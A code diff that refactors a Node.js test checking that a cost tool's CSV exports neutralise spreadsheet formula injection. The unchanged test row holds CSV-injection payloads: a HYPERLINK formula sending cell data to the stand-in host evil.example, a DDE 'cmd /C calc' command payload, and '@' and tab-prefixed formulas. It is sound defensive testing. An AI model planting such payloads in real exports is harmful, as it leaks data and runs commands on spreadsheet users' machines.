@@ -1,16 +1,8 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import { readFileSync, writeFileSync } from 'node:fs';
-import { join } from 'node:path';
+import { readFileSync } from 'node:fs';
 import { parseCsv } from '../src/core/index.js';
-import { runCli } from './cli.js';
-import {
-  insertCostRows,
-  seedStandardOrg,
-  STANDARD_CONFIG,
-  withStore,
-  inTempDir,
-} from './_allocation-fixture.js';
+import { exportStandardOrgFocus, inTempDir } from './_allocation-fixture.js';
 
 // Issue 15, class 11: exports are formula-safe. A cost export is attacker-controlled text (resource names,
 // descriptions, tags); a spreadsheet opening Tally's CSV must show it as text, never run it.
@@ -19,37 +11,18 @@ const PLAIN_NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;
 
 test('exports are formula-safe: export focus neutralises formula cells and keeps negative amounts numeric', async () => {
   await inTempDir('tally-formula-', async (dir) => {
-    const db = join(dir, 't.duckdb');
-    const cfg = join(dir, 'tally.yaml');
-    writeFileSync(cfg, STANDARD_CONFIG);
-    await withStore(db, async (s) => {
-      await seedStandardOrg(s);
-      await insertCostRows(s, [
-        {
-          ChargePeriodStart: '2026-01-05T00:00:00Z',
-          x_AiService: 'openai',
-          ResourceName: '=HYPERLINK("http://evil.example/?x="&A1)',
-          ChargeDescription: '\uFF1Dcmd|" /C calc"!A0',
-          SubAccountName: '@SUM(1+1)',
-          RegionName: '\t=1+1',
-          EffectiveCost: '-1.25',
-          ConsumedQuantity: null,
-          ConsumedUnit: null,
-        },
-      ]);
-    });
-    const out = join(dir, 'focus.csv');
-    const r = await runCli([
-      'export',
-      'focus',
-      '--db',
-      db,
-      '--config',
-      cfg,
-      '--period',
-      '2026-01',
-      '--out',
-      out,
+    const { out, result: r } = await exportStandardOrgFocus(dir, [
+      {
+        ChargePeriodStart: '2026-01-05T00:00:00Z',
+        x_AiService: 'openai',
+        ResourceName: '=HYPERLINK("http://evil.example/?x="&A1)',
+        ChargeDescription: '\uFF1Dcmd|" /C calc"!A0',
+        SubAccountName: '@SUM(1+1)',
+        RegionName: '\t=1+1',
+        EffectiveCost: '-1.25',
+        ConsumedQuantity: null,
+        ConsumedUnit: null,
+      },
     ]);
     assert.equal(r.code, 0, r.stderr);
     const [header, ...rows] = parseCsv(readFileSync(out, 'utf8'));
